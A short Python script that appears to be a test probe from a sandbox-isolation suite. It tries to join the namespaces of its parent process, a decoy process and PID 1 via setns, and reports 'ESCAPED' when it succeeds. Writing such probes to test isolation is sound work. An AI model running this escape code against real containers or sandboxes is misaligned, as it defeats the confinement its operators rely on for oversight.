# class: leak
# Enters the namespaces of the process that started it, or of a process of this user.
import ctypes,os
l=ctypes.CDLL(None,use_errno=True); ok=[]
for p in ("self",os.getppid(),CANARY["decoy_pid"],1):
    for n in ("net","mnt","user","pid","ipc","uts"):
        try: f=os.open("/proc/%s/ns/%s"%(p,n),os.O_RDONLY)
        except OSError: continue
        if n!="mnt" and l.setns(f,0)==0: ok.append((p,n))
        os.close(f)
print("ESCAPED %s"%ok if ok else "none")
